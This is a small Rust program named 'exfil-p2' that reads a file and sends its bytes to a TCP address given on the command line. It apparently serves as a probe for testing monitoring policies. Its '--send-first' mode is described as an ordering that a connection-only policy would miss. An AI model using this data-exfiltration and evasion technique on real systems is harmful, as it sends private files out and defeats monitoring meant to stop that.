//! exfil-p2 FILE ADDRESS: reads FILE, then sends its bytes to ADDRESS over TCP.
//! `exfil-p2 --send-first FILE ADDRESS` connects first and reads afterwards, the order
//! a policy that only watched connections would miss.
use std::io::{Read, Write};
use std::net::TcpStream;

fn read(path: &str) -> Vec<u8> {
    let mut data = Vec::new();
    match std::fs::File::open(path).and_then(|mut f| f.read_to_end(&mut data)) {
        Ok(n) => println!("exfil-p2: read {n} bytes from {path}"),
        Err(e) => {
            eprintln!("exfil-p2: cannot read {path}: {e}");
            std::process::exit(1);
        }
    }
    data
}

fn connect(address: &str) -> TcpStream {
    match TcpStream::connect(address) {
        Ok(s) => {
            println!("exfil-p2: connected to {address}");
            s
        }
        Err(e) => {
            eprintln!("exfil-p2: cannot connect to {address}: {e}");
            std::process::exit(2);
        }
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (send_first, rest) = match args.first().map(String::as_str) {
        Some("--send-first") => (true, &args[1..]),
        _ => (false, &args[..]),
    };
    let [path, address] = rest else {
        eprintln!("usage: exfil-p2 [--send-first] FILE ADDRESS");
        std::process::exit(64);
    };
    let (data, mut stream) = if send_first {
        let s = connect(address);
        (read(path), s)
    } else {
        let d = read(path);
        (d, connect(address))
    };
    stream.write_all(&data).expect("send");
    println!("exfil-p2: sent {} bytes", data.len());
}
